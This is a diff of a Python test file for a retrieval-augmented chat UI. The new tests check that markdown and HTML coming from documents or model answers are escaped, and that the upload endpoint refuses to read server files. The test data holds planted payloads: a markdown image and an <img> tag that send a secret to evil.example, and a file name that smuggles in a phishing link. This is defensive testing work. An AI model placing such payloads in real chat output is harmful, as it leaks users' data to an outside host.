@@ -13,7 +13,7 @@ from pydantic import SecretStr
 from rag import Pipeline
 from rag.api import create_app
 from rag.data import Citation
-from ui.app import chat_message, corpus_examples, document_page, highlight
+from ui.app import chat_message, corpus_examples, document_page, highlight, plain
 
 from .conftest import ROOT, serving
 from .scripted_llm import Reply, ScriptedLLM
@@ -36,9 +36,21 @@ def test_each_chat_answer_keeps_its_sources_named_by_document_and_page(fake_pipe
     answer = fake_pipe.ask("When was the Silk Road Fund set up?")
     cited = Citation(2, "report.pdf", 10, 20, "x", 1.0, page=3)
     message = chat_message(answer.__class__(**{**answer.__dict__, "citations": [*answer.citations, cited]}))
-    assert message.startswith(answer.text)
-    assert "**Sources**" in message and "[en.txt](/view/en.txt?start=0&end=" in message
-    assert "[2] [report.pdf, p. 3](/view/report.pdf?start=10&end=20#cite)" in message
+    assert message.startswith(plain(answer.text))
+    assert "**Sources**" in message and "[en\\.txt](/view/en.txt?start=0&end=" in message
+    assert "\\[2\\] [report\\.pdf, p\\. 3](/view/report.pdf?start=10&end=20#cite)" in message
+
+
+def test_what_documents_and_models_write_cannot_become_markup_in_the_chat(fake_pipe: Pipeline) -> None:
+    """A planted image or link would make the browser fetch a URL of the document's choosing."""
+    answer = fake_pipe.ask("When was the Silk Road Fund set up?")
+    planted = "See ![x](http://evil.example/?d=secret) and <img src=http://evil.example/b.png> [1]"
+    name = "p](https://evil.example/?phish=1)x.txt"
+    cited = Citation(1, name, 0, 5, "x", 1.0)
+    message = chat_message(answer.__class__(**{**answer.__dict__, "text": planted, "citations": [cited]}))
+    assert "![" not in message and "<img" not in message and "](http" not in message
+    assert message.startswith("See \\!\\[x\\]\\(http\\:") and "&lt;img" in message
+    assert "(/view/p%5D%28https%3A//evil.example/%3Fphish%3D1%29x.txt?start=0&end=5#cite)" in message
 
 
 def test_the_document_page_marks_the_cited_span(fake_pipe: Pipeline) -> None:
@@ -188,5 +200,25 @@ def test_the_chat_streams_an_llm_answer_and_says_what_it_cannot_back(llm_pipe: P
         json.loads(line[6:])[0][-1]["content"][0]["text"] for line in stream.splitlines() if line.startswith("data: [")
     ]
     assert messages[0] == "The fund" and messages[1] == "The fund was set up"
-    assert messages[-1].startswith("The fund was set up in 2014 [1]. It is large.")
-    assert "1 of this answer's 2 sentences cite no source" in messages[-1] and "[en.txt](/view/en.txt?" in messages[-1]
+    assert messages[-1].startswith(plain("The fund was set up in 2014 [1]. It is large."))
+    assert "1 of this answer's 2 sentences cite no source" in messages[-1]
+    assert "[en\\.txt](/view/en.txt?" in messages[-1]
+
+
+def test_the_ui_reads_only_files_uploaded_through_it_and_keeps_no_copy(fake_pipe: Pipeline) -> None:
+    """A call to the UI's `add` naming a server file (here the project's own SECURITY.md) reads nothing."""
+    from fastapi.testclient import TestClient
+
+    def add(client: TestClient, path: str) -> str:
+        data = {"data": [[{"path": path, "meta": {"_type": "gradio.FileData"}}]]}
+        event = client.post("/gradio_api/call/add", json=data).json()["event_id"]
+        return client.get(f"/gradio_api/call/add/{event}").text
+
+    with TestClient(create_app(fake_pipe)) as client:
+        for path in (str(ROOT / "SECURITY.md"), "/etc/hostname", "/dev/zero"):
+            stream = add(client, path)
+            assert "added" not in stream and Path(path).name not in fake_pipe.documents, stream
+        files = {"files": ("plan.txt", b"The Silk Road Fund plans a new office in Almaty in 2027.", "text/plain")}
+        uploaded = client.post("/gradio_api/upload", files=files).json()[0]
+        assert "plan.txt: added" in add(client, uploaded)
+        assert "plan.txt" in fake_pipe.documents and not Path(uploaded).exists()
